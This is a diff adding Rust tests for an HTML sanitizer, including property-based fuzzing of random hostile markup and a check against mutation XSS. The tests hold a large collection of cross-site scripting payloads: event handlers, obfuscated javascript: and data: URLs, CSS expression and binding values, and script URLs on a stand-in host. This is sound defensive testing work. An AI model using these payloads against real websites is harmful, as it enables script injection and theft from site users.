+    assert!(HOSTILE.len() >= 120, "the table shrank to {} rows", HOSTILE.len());
+    let failed = failures(HOSTILE.iter().map(|(name, html)| (*name, html.to_string())));
+    assert!(
+        failed.is_empty(),
+        "{} of {} hostile rows got through:\n{}",
+        failed.len(),
+        HOSTILE.len(),
+        failed.join("\n")
+    );
+}
+
+const EVENT_HANDLERS: &[&str] = &[
+    "onabort",
+    "onafterprint",
+    "onanimationend",
+    "onanimationiteration",
+    "onanimationstart",
+    "onauxclick",
+    "onbeforeinput",
+    "onbeforeprint",
+    "onbeforetoggle",
+    "onbeforeunload",
+    "onbegin",
+    "onblur",
+    "oncanplay",
+    "onchange",
+    "onclick",
+    "oncontextmenu",
+    "oncopy",
+    "oncut",
+    "ondblclick",
+    "ondrag",
+    "ondrop",
+    "onend",
+    "onerror",
+    "onfocus",
+    "onfocusin",
+    "onhashchange",
+    "oninput",
+    "oninvalid",
+    "onkeydown",
+    "onload",
+    "onloadeddata",
+    "onmessage",
+    "onmousedown",
+    "onmouseenter",
+    "onmouseleave",
+    "onmouseover",
+    "onpageshow",
+    "onpaste",
+    "onplay",
+    "onpointerdown",
+    "onpointerover",
+    "onpopstate",
+    "onrepeat",
+    "onresize",
+    "onscroll",
+    "onscrollend",
+    "onsearch",
+    "onselect",
+    "onstart",
+    "onsubmit",
+    "ontoggle",
+    "ontouchstart",
+    "ontransitionend",
+    "onunload",
+    "onwheel",
+    "onafterscriptexecute",
+];
+
+const HANDLER_ELEMENTS: &[&str] = &[
+    "a",
+    "img",
+    "p",
+    "div",
+    "span",
+    "video",
+    "audio",
+    "source",
+    "track",
+    "details",
+    "summary",
+    "table",
+    "td",
+    "li",
+    "ol",
+    "blockquote",
+    "h2",
+    "pre",
+    "picture",
+    "figure",
+    "time",
+    "body",
+    "svg",
+    "math",
+    "input",
+    "xss",
+];
+
+#[test]
+fn no_event_handler_survives_on_any_element() {
+    let mut rows = Vec::new();
+    for (i, tag) in HANDLER_ELEMENTS.iter().enumerate() {
+        for (j, handler) in EVENT_HANDLERS.iter().enumerate() {
+            // Every other row shouts the handler's name: attribute names are case-insensitive.
+            let handler = if (i + j) % 2 == 0 { handler.to_string() } else { handler.to_ascii_uppercase() };
+            rows.push(("handler", format!("<{tag} src=\"a.jpg\" {handler}=\"alert(1)\" title=\"t\">x</{tag}>")));
+        }
+    }
+    let failed = failures(rows);
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+/// Ways to write a script-running URL so that a naive prefix check misses it.
+const SCRIPT_URLS: &[&str] = &[
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " \t javascript:alert(1)",
+    "\x01\x02javascript:alert(1)",
+    "jav&#x09;ascript:alert(1)",
+    "jav&#10;ascript:alert(1)",
+    "java&#13;script:alert(1)",
+    "java&Tab;script&colon;alert(1)",
+    "&#106;avascript:alert(1)",
+    "&#x6a;avascript&#x3a;alert(1)",
+    "&#0000106avascript&#0000058alert(1)",
+    "java\0script:alert(1)",
+    "\0javascript:alert(1)",
+    "`javascript:alert(1)`",
+    "javascript:/*\n*/alert(1)",
+    "vbscript:msgbox(1)",
+    "VbScRiPt&#58;msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "DaTa:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
+    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    "data:image/png;text/html;base64,PHNjcmlwdD4=",
+    "data:application/x-shockwave-flash;base64,AAAA",
+    "file:///etc/passwd",
+    "blob:https://news.example.org/7b3c",
+];
+
+const URL_SLOTS: &[(&str, &str)] = &[
+    ("a", "href"),
+    ("img", "src"),
+    ("img", "srcset"),
+    ("img", "lowsrc"),
+    ("img", "dynsrc"),
+    ("source", "src"),
+    ("source", "srcset"),
+    ("video", "src"),
+    ("video", "poster"),
+    ("audio", "src"),
+    ("track", "src"),
+    ("iframe", "src"),
+    ("frame", "src"),
+    ("embed", "src"),
+    ("object", "data"),
+    ("form", "action"),
+    ("button", "formaction"),
+    ("input", "src"),
+    ("table", "background"),
+    ("td", "background"),
+    ("a", "xlink:href"),
+    ("blockquote", "cite"),
+    ("link", "href"),
+    ("base", "href"),
+    ("area", "href"),
+];
+
+#[test]
+fn no_url_attribute_keeps_a_script_scheme() {
+    let mut rows = Vec::new();
+    for (tag, attr) in URL_SLOTS {
+        for url in SCRIPT_URLS {
+            let inner = match *tag {
+                "source" => format!("<video><source {attr}=\"{url}\"></video>"),
+                "track" => format!("<video><track {attr}=\"{url}\"></video>"),
+                "td" => format!("<table><tr><td {attr}=\"{url}\">x</td></tr></table>"),
+                "frame" => format!("<frameset><frame {attr}=\"{url}\"></frameset>"),
+                _ => format!("<{tag} {attr}=\"{url}\">x</{tag}>"),
+            };
+            rows.push(("url slot", inner));
+            // The same with the URL unquoted, and hidden behind a harmless candidate for srcset.
+            rows.push(("url slot unquoted", format!("<{tag} {attr}={url}>x</{tag}>")));
+            rows.push((
+                "url slot second candidate",
+                format!("<{tag} {attr}=\"https://ok.example/a.jpg 1x, {url} 2x\">x</{tag}>"),
+            ));
+        }
+    }
+    let failed = failures(rows);
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+/// Safe markup must survive, or the hostile tests could pass by deleting everything.
+const KEPT: &[(&str, &str, &[&str])] = &[
+    (
+        "paragraph with a link",
+        "<p>Read <a href=\"https://example.com/story\">the story</a>.</p>",
+        &["<p>", "href=\"https://example.com/story\"", ">the story</a>"],
+    ),
+    ("relative image", "<img src=\"/a.jpg\" alt=\"x\">", &["src=\"https://news.example.org/a.jpg\"", "alt=\"x\""]),
+    (
+        "relative link",
+        "<a href=\"../10/older.html\">older</a>",
+        &["href=\"https://news.example.org/2026/10/older.html\"", ">older</a>"],
+    ),
+    ("mail link", "<a href=\"mailto:editor@example.org\">write</a>", &["href=\"mailto:editor@example.org\""]),
+    (
+        "inline png",
+        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
+        &["src=\"data:image/png;base64,iVBORw0KGgo=\""],
+    ),
+    (
+        "srcset",
+        "<img src=\"a.jpg\" srcset=\"a.jpg 1x, b.jpg 2x\">",
+        &["srcset=\"https://news.example.org/2026/11/a.jpg 1x, https://news.example.org/2026/11/b.jpg 2x\""],
+    ),
+    (
+        "video with poster",
+        "<video src=\"v.mp4\" poster=\"p.jpg\"></video>",
+        &["src=\"https://news.example.org/2026/11/v.mp4\"", "poster=\"https://news.example.org/2026/11/p.jpg\""],
+    ),
+    (
+        "embed becomes a link",
+        "<iframe src=\"https://video.example.com/embed/42\"></iframe>",
+        &["href=\"https://video.example.com/embed/42\"", "video.example.com"],
+    ),
+    (
+        "embed with an escaped ampersand",
+        "<iframe src=\"https://video.example.com/embed/42?a=1&amp;b=2\"></iframe>",
+        &["href=\"https://video.example.com/embed/42?a=1&amp;b=2\""],
+    ),
+    (
+        "text of a hostile paragraph",
+        "<p onclick=\"alert(1)\">kept <b>text</b></p><script>alert(1)</script>",
+        &["<p>kept <b>text</b></p>"],
+    ),
+    (
+        "escaped markup stays text",
+        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
+        &["<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"],
+    ),
+];
+
+#[test]
+fn safe_markup_survives_sanitizing() {
+    let mut failed = Vec::new();
+    for (name, input, expected) in KEPT {
+        let output = clean(input);
+        let found = problems(&output);
+        let missing: Vec<_> = expected.iter().filter(|e| !output.contains(**e)).collect();
+        if !found.is_empty() || !missing.is_empty() {
+            failed.push(format!(
+                "{name}: problems {found:?}, missing {missing:?}\n    in:  {input:?}\n    out: {output:?}"
+            ));
+        }
+    }
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+#[test]
+fn tracking_pixels_go_however_they_are_spelled() {
+    for html in [
+        "<p>a<img src=\"https://t.example/p.gif\" width=\"1\" height=\"1\"></p>",
+        "<p>a<Img src=\"https://t.example/p.gif\" width=\"1\" height=\"1\"></p>",
+        "<p>a<image src=\"https://t.example/p.gif\" width=\"1\" height=\"1\"></p>",
+        "<p>a<img src=\"https://t.example/p.gif\" width=\"&#49;\" height=\"&#x31;\"></p>",
+        // Markup that makes a streaming rewriter unsure of the parse must not switch the filter off.
+        "<frameset></frameset><iframe></iframe><p>a<img src=\"https://t.example/p.gif\" width=1 height=1></p>",
+        "<select><style></style></select><p>a<img src=\"https://t.example/p.gif\" width=1 height=1></p>",
+    ] {
+        assert_eq!(clean(html), "<p>a</p>", "{html}");
+    }
+}
+
+/// The checker itself must see what it is there to see, or every test above passes vacuously.
+#[test]
+fn the_checker_catches_live_markup() {
+    let live = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+        "<a href=\"/relative\">x</a>",
+        "<img srcset=\"https://ok.example/a.jpg 1x, https://ok.example/b.jpg (2x, x) 3x, data:text/html,x 4x\">",
+        "<svg><a>x</a></svg>",
+        "<p style=\"color:red\">x</p>",
+        "<video poster=\"data:image/png;base64,AAAA\"></video>",
+        "<a href=\"data:image/png;base64,AAAA\">x</a>",
+        "<img src=\"mailto:a@example.org\">",
+        "<img src=\"data:image/png;text/html;base64,AAAA\">",
+        "<noscript><p>x</p></noscript>",
+        "<template><b onclick=x()>x</b></template>",
+    ];
+    for html in live {
+        assert!(!problems(html).is_empty(), "checker missed {html:?}");
+    }
+    assert!(problems("<p><a href=\"https://ok.example/\">x</a></p>").is_empty());
+    assert_eq!(srcset_urls("a 1x,b 2x , c, d (1x, 2x) 3x,e,f"), vec!["a", "b", "c", "d", "e,f"]);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Random HTML-ish input.
+// ---------------------------------------------------------------------------------------------------------
+
+const GEN_TAGS: &[&str] = &[
+    "p",
+    "a",
+    "img",
+    "div",
+    "span",
+    "b",
+    "table",
+    "tr",
+    "td",
+    "ul",
+    "li",
+    "pre",
+    "video",
+    "audio",
+    "source",
+    "picture",
+    "blockquote",
+    "details",
+    "h2",
+    "script",
+    "style",
+    "svg",
+    "math",
+    "mtext",
+    "mglyph",
+    "malignmark",
+    "annotation-xml",
+    "foreignObject",
+    "desc",
+    "title",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "select",
+    "option",
+    "noscript",
+    "template",
+    "xmp",
+    "plaintext",
+    "noembed",
+    "noframes",
+    "base",
+    "meta",
+    "link",
+    "isindex",
+    "image",
+    "animate",
+    "set",
+    "use",
+    "frameset",
+    "applet",
+    "xss",
+    "dialog",
+];
+
+const GEN_ATTRIBUTES: &[&str] = &[
+    "onclick",
+    "onerror",
+    "onload",
+    "OnMouseOver",
+    "onfocus",
+    "onbegin",
+    "ontoggle",
+    "href",
+    "src",
+    "srcset",
+    "poster",
+    "action",
+    "formaction",
+    "xlink:href",
+    "style",
+    "background",
+    "lowsrc",
+    "dynsrc",
+    "srcdoc",
+    "data",
+    "attributeName",
+    "values",
+    "to",
+    "is",
+    "xmlns",
+    "http-equiv",
+    "content",
+    "title",
+    "alt",
+    "width",
+    "height",
+    "dir",
+    "lang",
+    "autofocus",
+    "open",
+    "sizes",
+    "media",
+    "label",
+    "datetime",
+    "encoding",
+];
+
+/// Attributes the sanitizer may keep as free text. The blunt raw-output check would flag a script URL in
+/// them even though it is inert there, so the generator gives them text only.
+const TEXT_ATTRIBUTES: &[&str] =
+    &["title", "alt", "width", "height", "dir", "lang", "open", "autofocus", "sizes", "media", "label", "datetime"];
+
+const SCHEMES: &[&str] = &[
+    "javascript:",
+    "vbscript:",
+    "data:text/html,",
+    "data:text/html;base64,",
+    "data:image/svg+xml,",
+    "data:image/png;base64,",
+    "data:image/png;text/html;base64,",
+    "https://",
+    "http://",
+    "//",
+    "/",
+    "../",
+    "",
+    "mailto:",
+    "file:///",
+    "livescript:",
+    "feed:javascript:",
+];
+
+const PAYLOADS: &[&str] = &[
+    "alert(1)",
+    "alert(document.domain)",
+    "//%0aalert(1)",
+    "evil.example/x.js",
+    "ok.example/a.png",
+    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "iVBORw0KGgo=",
+    "<script>alert(1)</script>",
+    "editor@example.org",
+    "alert&#40;1&#41;",
+    "a.jpg 1x, b.jpg 2x",
+];
+
+const TEXT_BITS: &[&str] = &[
+    "hello",
+    "a < b",
+    "x > y",
+    "&",
+    "&amp;",
+    "&lt;script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\"",
+    "'",
+    "`",
+    "<",
+    ">",
+    "</",
+    "<!",
+    "<!--",
+    "-->",
+    "--!>",
+    "<![CDATA[",
+    "]]>",
+    "<?",
+    "<scr",
+    "ipt>",
+    "alert(1)",
+    "\0",
+    "&#0;",
+    "/",
+    "=",
+];
+
+fn mix_case(s: &str, bits: u32) -> String {
+    s.chars().enumerate().map(|(i, c)| if bits >> (i % 32) & 1 == 1 { c.to_ascii_uppercase() } else { c }).collect()
+}
+
+/// A scheme spelled so that a prefix check misses it: entities, whitespace and control characters, nulls,
+/// percent-encoding and case, each put at a random place.
+fn obfuscate(scheme: &str, how: usize, at: Index, case_bits: u32) -> String {
+    let at = at.index(scheme.len() + 1);
+    let (head, tail) = scheme.split_at(at);
+    let first = tail.chars().next();
+    let after_first = tail.get(1..).unwrap_or("");
+    let insert = |what: &str| format!("{head}{what}{tail}");
+    match how {
+        0 => scheme.to_string(),
+        1 => insert("&#x09;"),
+        2 => insert("\t"),
+        3 => insert("&#10;"),
+        4 => insert("\n"),
+        5 => insert("&Tab;"),
+        6 => insert("&NewLine;"),
+        7 => insert("\0"),
+        8 => insert("\u{200b}"),
+        9 => insert(" "),
+        10 => match first {
+            Some(c) => format!("{head}&#{};{after_first}", c as u32),
+            None => scheme.to_string(),
+        },
+        11 => match first {
+            Some(c) => format!("{head}&#x{:X};{after_first}", c as u32),
+            None => scheme.to_string(),
+        },
+        12 => match first {
+            Some(c) => format!("{head}&#000000{}{after_first}", c as u32),
+            None => scheme.to_string(),
+        },
+        13 => match first {
+            Some(c) => format!("{head}%{:02X}{after_first}", c as u32),
+            None => scheme.to_string(),
+        },
+        14 => scheme.replacen(':', "&colon;", 1),
+        15 => scheme.replacen(':', "&#58;", 1),
+        16 => format!("  {scheme}"),
+        17 => format!("\x01\x1f{scheme}"),
+        18 => format!("&#x20;&#14;{scheme}"),
+        _ => mix_case(scheme, case_bits),
+    }
+}
+
+fn url_value() -> impl Strategy<Value = String> {
+    (select(SCHEMES), select(PAYLOADS), 0usize..20, any::<Index>(), any::<u32>(), prop::option::of(select(SCHEMES)))
+        .prop_map(|(scheme, payload, how, at, case_bits, second)| {
+            let first = format!("{}{payload}", obfuscate(scheme, how, at, case_bits));
+            // Sometimes a second candidate, as in a srcset that hides the bad one after a comma.
+            match second {
+                Some(second) => format!("{first} 1x, {second}{payload} 2x"),
+                None => first,
+            }
+        })
+}
+
+fn text_value() -> impl Strategy<Value = String> {
+    prop_oneof![select(TEXT_BITS).prop_map(str::to_string), "[a-z<>&\"' /!-]{0,10}",]
+}
+
+fn script_value() -> impl Strategy<Value = String> {
+    select(
+        &[
+            "alert(1)",
+            "javascript:alert(1)",
+            "eval(atob('YWxlcnQoMSk='))",
+            "background:url(javascript:alert(1))",
+            "width:expression(alert(1))",
+            "-moz-binding:url(https://evil.example/x.xml#x)",
+            "<script>alert(1)</script>",
+            "0;url=javascript:alert(1)",
+        ][..],
+    )
+    .prop_map(str::to_string)
+}
+
+fn attribute() -> impl Strategy<Value = String> {
+    (
+        select(GEN_ATTRIBUTES),
+        any::<u32>(),
+        prop_oneof![url_value(), script_value(), text_value()],
+        text_value(),
+        0usize..6,
+        select(&[" ", "/", "\t", "\n", "\x0c", " / "][..]),
+    )
+        .prop_map(|(name, case_bits, any_value, text, quoting, sep)| {
+            let name = mix_case(name, case_bits);
+            if TEXT_ATTRIBUTES.contains(&name.to_ascii_lowercase().as_str()) {
+                // Text only, and always properly quoted, so it cannot swallow a neighbour's script URL.
+                let text = text.replace('"', "&quot;").replace('>', "&gt;");
+                return format!("{sep}{name}=\"{text}\"");
+            }
+            // Quotes may break out of the value (that is the point), but a raw `>` would end the tag and
+            // spill the rest of the attributes, script URLs and all, into inert text that the blunt raw
+            // check cannot tell from live markup. The entity keeps the character in the value.
+            let value = any_value.replace('>', "&gt;");
+            match quoting {
+                0 | 1 => format!("{sep}{name}=\"{value}\""),
+                2 => format!("{sep}{name}='{value}'"),
+                3 => format!("{sep}{name}={value}"),
+                4 => format!("{sep}{name}=`{value}`"),
+                _ => format!("{sep}{name}=\"{value}"),
+            }
+        })
+}
+
+fn html_fragment() -> impl Strategy<Value = String> {
+    let leaf = prop_oneof![
+        3 => text_value(),
+        1 => (select(&["img", "iframe", "image"][..]), prop::collection::vec(attribute(), 0..4), 0u8..3)
+            .prop_map(|(tag, attrs, size)| {
+                // Void-ish elements, sometimes sized as a tracking pixel so the pre-pass removes them.
+                let size = match size {
+                    0 => " width=1 height=1",
+                    1 => " width=0",
+                    _ => "",
+                };
+                format!("<{tag}{}{size}>", attrs.concat())
+            }),
+    ];
+    leaf.prop_recursive(4, 64, 5, |inner| {
+        (
+            select(GEN_TAGS),
+            any::<u32>(),
+            prop::collection::vec(attribute(), 0..4),
+            prop::collection::vec(inner, 0..5),
+            0usize..6,
+        )
+            .prop_map(|(tag, case_bits, attrs, children, closing)| {
+                let open_tag = mix_case(tag, case_bits);
+                let attrs = attrs.concat();
+                let children = children.concat();
+                match closing {
+                    0 | 1 => format!("<{open_tag}{attrs}>{children}</{tag}>"),
+                    2 => format!("<{open_tag}{attrs}>{children}"),
+                    3 => format!("<{open_tag}{attrs}/>{children}"),
+                    4 => format!("<{open_tag}{attrs}>{children}</{tag} >"),
+                    _ => format!("<{open_tag}{attrs}>{children}</{tag}"),
+                }
+            })
+    })
+}
+
+fn html_document() -> impl Strategy<Value = String> {
+    prop::collection::vec(html_fragment(), 1..5).prop_map(|parts| parts.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+    #[test]
+    fn random_html_never_yields_script(html in html_document()) {
+        let output = clean(&html);
+        let found = problems(&output);
+        prop_assert!(found.is_empty(), "{found:?}\n    out: {output:?}");
+        // Without a base nothing relative can be resolved, which must not open a hole either.
+        let output = sanitize_html(&html, None);
+        let found = problems(&output);
+        prop_assert!(found.is_empty(), "without base: {found:?}\n    out: {output:?}");
+    }
+
+    #[test]
+    fn sanitizing_twice_changes_nothing(html in html_document()) {
+        // If the output parsed into a different tree than the one ammonia serialized, cleaning it again
+        // would change it: that difference is where mutation XSS lives.
+        let once = clean(&html);
+        let twice = clean(&once);
+        prop_assert_eq!(once, twice);
+    }
+}
